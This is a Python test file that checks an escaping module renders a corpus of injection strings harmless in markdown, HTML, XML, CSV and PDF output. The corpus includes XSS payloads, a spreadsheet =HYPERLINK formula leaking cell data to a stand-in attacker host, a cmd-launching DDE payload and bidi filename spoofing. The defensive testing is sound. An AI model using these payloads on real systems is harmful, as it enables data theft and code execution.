"""Data text is never markup: the injection corpus through every sink helper (issue 10).

Each sink is checked with an independent reader of that format: Python's
``html.parser`` for HTML, ``xml.etree`` for XML (KML/GPX), the ``csv`` module for CSV,
fpdf2 for PDF, and for markdown the CommonMark rule that a backslash-escaped ASCII
punctuation character is literal (spec 0.31 §2.4), checked character by character.
"""

from __future__ import annotations

import csv
import io
import string
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pandas as pd
import pytest

from hotspots.present import escape

CORPUS = [
    "![x](http://evil.example/track.png)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='http://evil.example'>x</a>",
    "javascript:alert(document.cookie)",
    "http://evil.example/x www.evil.example",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\u202egnp.exe",  # right-to-left override
    "a\u2066b\u2069c\u200f",  # isolates and marks
    "bell\x07null\x00esc\x1b del\x7f",
    "# heading **bold** _it_ `code` | a | b |",
    "On or near Poole Bus Station",
    "",
]
_PUNCT = set(string.punctuation)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


@pytest.mark.parametrize("text", CORPUS)
def test_plain_removes_control_and_bidi_characters(text):
    out = escape.plain(text)
    assert not any(ch in out for ch in _BIDI)
    assert all(ch in "\t\n" or ord(ch) >= 0x20 for ch in out)
    assert "\x7f" not in out


@pytest.mark.parametrize("text", CORPUS)
def test_markdown_every_punctuation_is_escaped(text):
    out = escape.markdown(text)
    visible = []
    i = 0
    while i < len(out):
        ch = out[i]
        if ch == "\\":
            assert i + 1 < len(out) and out[i + 1] in _PUNCT, out
            visible.append(out[i + 1])
            i += 2
            continue
        assert ch not in _PUNCT, (ch, out)  # no link, image, emphasis, HTML or autolink
        assert ch not in "\n\r"
        if ch != "\u200b":  # zero-width space: splits autolinks, shows nothing
            visible.append(ch)
        i += 1
    # what the reader sees is the text itself
    assert "".join(visible) == escape.plain(text).replace("\n", " ").replace("\t", " ")
    # GitHub-flavoured autolink literals (remark-gfm's patterns, run on the unescaped text)
    import re

    shown = out.replace("\\", "")
    assert not re.search(r"(?i)https?://|www\.|[-.\w+]+@[-\w]+\.", shown), shown


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.data: list[str] = []
        self.attrs: list = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data):
        self.data.append(data)


@pytest.mark.parametrize("text", CORPUS)
def test_html_text_and_attribute(text):
    p = _Collect()
    p.feed(f'<p title="{escape.html(text)}">{escape.html(text)}</p>')
    p.close()
    assert p.tags == ["p"]
    assert p.attrs == [("title", escape.plain(text))]
    assert "".join(p.data) == escape.plain(text)


@pytest.mark.parametrize("text", CORPUS)
def test_xml_for_kml_and_gpx(text):
    root = ET.fromstring(f'<name desc="{escape.xml(text)}">{escape.xml(text)}</name>')
    assert list(root) == []
    expected = escape.plain(text).replace("\t", " ")
    assert (root.text or "") == expected
    assert root.get("desc") == expected


def test_csv_cells_never_start_a_formula():
    df = pd.DataFrame({"location": CORPUS, "n": range(len(CORPUS))})
    df["lsoa"] = pd.array(CORPUS, dtype="string")
    df.loc[0, "n"] = -5  # numbers stay numbers
    text = escape.csv_frame(df).to_csv(index=False)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["location", "n", "lsoa"]
    for row in rows[1:]:
        for cell in (row[0], row[2]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    assert rows[1][1] == "-5"
    assert rows[8][0] == "'" + CORPUS[7]  # the formula is kept, as text


def test_pdf_text_renders_as_plain_text():
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=10)
    for text in CORPUS:
        t = escape.pdf_text(text)
        t.encode("latin-1")  # the core fonts' encoding
        pdf.multi_cell(0, 5, t or " ", new_x="LMARGIN", new_y="NEXT")  # never markdown=True
    assert bytes(pdf.output()).startswith(b"%PDF")


def test_cli_rejects_csv_is_neutralised(tmp_path, capsys):
    from hotspots.cli import main

    header = (
        "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,"
        "LSOA code,LSOA name,Crime type,Last outcome category,Context"
    )
    rows = [
        ',2024-01,Dorset Police,Dorset Police,-1.97,50.71,"=HYPERLINK(""http://evil.example"")",,,Anti-social behaviour,,',
        ",=1+2,Dorset Police,Dorset Police,-1.97,50.71,x,,,Anti-social behaviour,,",
        "@SUM(1),2024-01",
    ]
    f = tmp_path / "payload.csv"
    f.write_text(header + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "rejects.csv"
    assert main(["ingest", str(f), "--store", str(tmp_path / "s"), "--rejects", str(out)]) == 0
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert "'=1+2" in cells and "'@SUM(1),2024-01" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
